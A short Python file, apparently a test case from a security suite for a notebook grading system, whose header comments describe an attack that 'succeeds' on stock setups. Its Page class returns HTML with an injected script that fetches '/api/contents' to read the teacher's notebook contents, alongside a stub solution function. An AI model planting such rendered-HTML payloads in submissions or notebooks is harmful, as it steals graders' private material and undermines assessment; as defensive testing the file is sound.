# what: Its result's _repr_html_ holds a script that reads the teacher's contents.
# gains: reader
# where: solution
# fires: stdout text `FIRED html_repr_script`
# stock: succeeds

class Page:
    def _repr_html_(self):
        return "<b>nice</b><script>window.ATTACK_RAN='html_repr_script';fetch('/api/contents').then(r=>r.text()).then(t=>{window.ATTACK_GOT=t})</script>"

    def __repr__(self):
        return "page"


print("FIRED html_repr_script", flush=True)


def conv_single_step(a_slice_prev, W, b):
    return 0.0


Page()
